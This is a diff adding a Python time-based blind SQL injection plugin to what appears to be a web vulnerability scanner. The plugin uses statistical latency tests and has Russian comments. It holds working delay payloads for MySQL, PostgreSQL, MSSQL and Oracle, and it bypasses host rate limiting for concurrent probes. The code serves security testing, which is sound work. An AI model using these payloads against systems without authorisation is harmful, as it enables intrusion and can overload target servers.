@@ -0,0 +1,268 @@
+# plugins/sqli_time_based.py
+import contextvars
+import math
+import threading
+from concurrent.futures import ThreadPoolExecutor
+from functools import partial
+from typing import List, NamedTuple, Optional, Tuple
+from urllib.parse import parse_qsl, urlparse, urlunparse
+import requests
+from core.base_plugin import BasePlugin, ScanResult
+from core.timing import DelayTest, LatencyStats, choose_delay
+
+
+class _Payload(NamedTuple):
+    dbms: str
+    prefix: str                 # Контекст: "'" — строковый, "" — числовой
+    template: str               # {delay} — задержка в секундах, {mssql} — она же в формате WAITFOR
+    whole_seconds: bool = False  # СУБД принимает только целые секунды
+
+
+class _Point(NamedTuple):
+    """Точка инъекции: запрос (метод, URL без query, поля) и имя проверяемого поля"""
+    method: str
+    url: str
+    fields: Tuple[Tuple[str, str], ...]
+    name: str
+    label: str  # URL для отчета
+
+
+class _Slot:
+    def __init__(self):
+        self.lock = threading.Lock()
+        self.stats: Optional[LatencyStats] = None
+
+
+class _Gate:
+    """Счетчик слотов плагина: группа запросов занимает слоты разом, до отправки первого из них"""
+    def __init__(self, capacity: int):
+        self.capacity = capacity
+        self._free = capacity
+        self._cond = threading.Condition()
+
+    def acquire(self, count: int):
+        with self._cond:
+            self._cond.wait_for(lambda: self._free >= count)
+            self._free -= count
+
+    def release(self, _future=None):
+        with self._cond:
+            self._free += 1
+            self._cond.notify_all()
+
+
+_TEMPLATES = (
+    ("MySQL", "{q} AND (SELECT 1 FROM (SELECT SLEEP({delay}))x)-- -", False),
+    ("PostgreSQL", "{q} AND 1=(SELECT 1 FROM PG_SLEEP({delay}))--", False),
+    ("MSSQL", "{q}; WAITFOR DELAY '{mssql}'--", False),
+    ("Oracle", "{q} AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',{delay})--", True),
+)
+
+
+class TimeBasedSQLiPlugin(BasePlugin):
+    """
+    Time-based blind SQLi. Для каждого эндпоинта сначала измеряется распределение задержки
+    (прогревочный запрос открывает keep-alive соединение и не учитывается). Затем пейлоады
+    проверяются раундами одновременных запросов: по запросу с задержкой на каждый пейлоад
+    и по контрольному на контекст (пейлоад того же контекста с нулевой задержкой).
+    Разности задержек идут в последовательный тест (core/timing.DelayTest), который
+    останавливается, как только результат значим; неуязвимая точка обычно отсеивается
+    за один раунд.
+
+    Запросы раундов идут в обход адаптивного ограничителя хоста (throttled=False): в общей
+    очереди половины пары уходили бы в разное время. Вместо него параллелизм плагина ограничен
+    счетчиком размером с пул соединений транспорта, и слоты для группы (запросы с задержкой
+    и их контрольные) занимаются разом до отправки. Поэтому запросы группы уходят одновременно
+    по открытым keep-alive соединениям (если пул не занят другими плагинами), а max_rps
+    и паузы по 429 к ним не применяются.
+
+    Проверка долгая (прогрев, замеры и раунды с задержкой на каждый параметр), поэтому
+    плагин по умолчанию выключен: --time-sqli в CLI или --enable "Time-Based Blind SQLi".
+    """
+    @classmethod
+    def meta(cls):
+        return {"name": "Time-Based Blind SQLi", "type": "audit", "version": "1.0", "default_enabled": False}
+
+    # Строковый (кавычка) и числовой контекст для каждой СУБД
+    PAYLOADS = [_Payload(dbms, q, template.format(q=q, delay="{delay}", mssql="{mssql}"), whole)
+                for q in ("'", "") for dbms, template, whole in _TEMPLATES]
+
+    def setup(self):
+        config = self.context.config
+        self.min_delay = config.get("time_sqli_delay", 1.0)
+        self.max_delay = max(self.min_delay, config.get("time_sqli_max_delay", 5.0))
+        self.samples = max(2, config.get("time_sqli_samples", 5))
+        self.alpha = config.get("time_sqli_alpha", 0.001)
+        self.beta = config.get("time_sqli_beta", 0.01)
+        self.max_pairs = config.get("time_sqli_max_pairs", 6)
+        self._endpoints = {}
+        self._lock = threading.Lock()
+        # Запросы групп отправляются одновременно; слотов не больше пула соединений транспорта,
+        # а потоков столько же, сколько слотов, поэтому группа с занятыми слотами не ждет в очереди
+        capacity = max(2, getattr(self.context.session, "pool_size", 10))
+        self._gate = _Gate(capacity)
+        self._executor = ThreadPoolExecutor(max_workers=capacity)
+
+    def teardown(self):
+        self._executor.shutdown(wait=False)
+
+    def run(self) -> List[ScanResult]:
+        return [r for unit in self.work_units() for r in unit()]
+
+    def work_units(self):
+        """Единица работы — одна точка инъекции (параметр URL или текстовое поле формы)"""
+        urls_seen = 0
+        for url in self.context.discovered_urls.stream():
+            urls_seen += 1
+            if "=" in url and self.context.scope.allows(url) and self.context.url_templates.admit(url):
+                yield from self._url_units(url)
+
+        if not urls_seen and "=" in self.context.target_url:
+            yield from self._url_units(self.context.target_url)
+
+        for form in self.context.discovered_forms.stream():
+            full_url = form.get_full_url(self.context.target_url)
+            if not self.context.scope.allows(full_url):
+                continue
+            fields = tuple((i.name, i.value or "") for i in form.inputs if i.name)
+            for input_field in form.inputs:
+                if input_field.type in ['text', 'search', 'password', 'textarea'] and input_field.name:
+                    point = _Point(form.method.upper(), full_url, fields, input_field.name, full_url)
+                    yield partial(self._test_point, point)
+
+    def _url_units(self, url: str):
+        parsed = urlparse(url)
+        fields = tuple(parse_qsl(parsed.query, keep_blank_values=True))
+        base = urlunparse(parsed._replace(query="", fragment=""))
+        for name in dict.fromkeys(name for name, _ in fields):
+            yield partial(self._test_point, _Point("GET", base, fields, name, url))
+
+    # --- Измерения ---
+
+    def _send(self, point: _Point, suffix: str, timeout: float, delayed: bool = False,
+              throttled: bool = True) -> float:
+        """Время ответа (до заголовков) на запрос с suffix, дописанным к значению поля"""
+        fields = [(name, value + suffix if name == point.name else value) for name, value in point.fields]
+        options = {"params": fields} if point.method == "GET" else {"data": fields}
+        try:
+            response = self.context.session.request(point.method, point.url, cache=False, timeout=timeout,
+                                                    throttled=throttled, **options)
+        except requests.ReadTimeout:
+            if delayed:
+                return timeout  # Ответ не пришел за таймаут — задержка не меньше таймаута
+            raise
+        return response.elapsed.total_seconds()
+
+    def _latency(self, point: _Point) -> Optional[LatencyStats]:
+        """Распределение задержки эндпоинта (измеряется один раз на метод + URL)"""
+        with self._lock:
+            slot = self._endpoints.setdefault((point.method, point.url), _Slot())
+        with slot.lock:
+            if slot.stats is None:
+                stats = LatencyStats()
+                try:
+                    self._send(point, "", self.context.session.timeout)  # Прогрев соединения
+                    for _ in range(self.samples):
+                        stats.add(self._send(point, "", self.context.session.timeout))
+                except Exception as e:
+                    self.context.log(f"Time-based SQLi: эндпоинт {point.url} недоступен: {e}")
+                slot.stats = stats
+            return slot.stats if slot.stats.count >= 2 else None
+
+    @staticmethod
+    def _render(payload: _Payload, delay: float) -> Tuple[str, float]:
+        """Текст пейлоада и фактическая задержка (с учетом округления до целых секунд)"""
+        if payload.whole_seconds and delay:
+            delay = float(math.ceil(delay))
+        return payload.template.format(delay=f"{delay:g}", mssql=f"0:0:{delay:06.3f}"), delay
+
+    def _submit(self, point: _Point, suffix: str, timeout: float, delayed: bool = False):
+        """
+        Запрос группы в обход ограничителя хоста (слот уже занят в _round, освобождается по завершении);
+        контекст потока сохраняется, чтобы запрос учитывался в статистике плагина
+        """
+        future = self._executor.submit(contextvars.copy_context().run, self._send,
+                                       point, suffix, timeout, delayed, False)
+        future.add_done_callback(self._gate.release)
+        return future
+
+    def _batches(self, payloads: List[_Payload]):
+        """
+        Делит раунд на группы не больше половины слотов (вместе с контрольными, но не меньше пары):
+        группе не нужно ждать, пока хост освободится целиком, и две группы идут одновременно
+        """
+        limit = max(2, self._gate.capacity // 2)
+        batch, prefixes = [], set()
+        for payload in payloads:
+            if batch and len(batch) + len(prefixes | {payload.prefix}) + 1 > limit:
+                yield batch
+                batch, prefixes = [], set()
+            batch.append(payload)
+            prefixes.add(payload.prefix)
+        if batch:
+            yield batch
+
+    def _round(self, point: _Point, payloads: List[_Payload], delay: float, timeout: float):
+        """
+        Отправляет запросы раунда группами: в группе запрос с задержкой для каждого пейлоада
+        и контрольный для каждого контекста; слоты группы занимаются до отправки, поэтому
+        ее запросы уходят одновременно. Возвращает пейлоад -> (future с задержкой, контрольный future)
+        """
+        pairs = {}
+        for batch in self._batches(payloads):
+            self._gate.acquire(len(batch) + len({payload.prefix for payload in batch}))
+            controls = {}
+            for payload in batch:
+                if payload.prefix not in controls:
+                    controls[payload.prefix] = self._submit(point, self._render(payload, 0)[0], timeout)
+                pairs[payload] = (self._submit(point, self._render(payload, delay)[0], timeout, True),
+                                  controls[payload.prefix])
+        return pairs
+
+    # --- Проверка точки ---
+
+    def _test_point(self, point: _Point) -> List[ScanResult]:
+        stats = self._latency(point)
+        if stats is None:
+            return []
+        sigma = stats.pair_sigma()
+        delay = choose_delay(sigma, self.min_delay, self.max_delay)
+        # Запрос с задержкой должен успеть ответить даже при нескольких срабатываниях пейлоада
+        timeout = max(self.context.session.timeout or 0, stats.mean + 3 * self.max_delay + 10 * sigma)
+
+        tests = {}
+        for payload in self.PAYLOADS:
+            _, actual = self._render(payload, delay)
+            tests[payload] = DelayTest(actual, sigma, self.alpha, self.beta, max_pairs=self.max_pairs)
+
+        active = list(self.PAYLOADS)
+        while active:
+            pairs = self._round(point, active, delay, timeout)
+            still_active = []
+            for payload, (delayed, control) in pairs.items():
+                try:
+                    delayed_time, control_time = delayed.result(), control.result()
+                except Exception:
+                    continue  # Ошибка запроса: пейлоад больше не проверяем
+                decision = tests[payload].add(delayed_time - control_time)
+                if decision:
+                    # Точка уязвима — остальные пейлоады не проверяем
+                    return [self._report(point, payload, tests[payload], stats)]
+                if decision is None:
+                    still_active.append(payload)
+            active = still_active
+        return []
+
+    def _report(self, point: _Point, payload: _Payload, test: DelayTest, stats: LatencyStats) -> ScanResult:
+        text, _ = self._render(payload, test.delay)
+        return ScanResult(
+            plugin_name=self.meta()['name'],
+            vulnerability_id="SQLI-TIME",
+            severity="CRITICAL",
+            url=point.label,
+            evidence=f"Param: {point.name}, Payload: {text.strip()}. DBMS: {payload.dbms}. "
+                     f"Delay {test.delay:.2f}s, mean shift {test.mean_shift:.2f}s over {test.pairs} pairs, "
+                     f"LLR {test.llr:.1f}",
+            response_snippet=f"Endpoint latency: mean {stats.mean * 1000:.0f} ms, "
+                             f"std {stats.std * 1000:.0f} ms ({stats.count} samples)"
+        )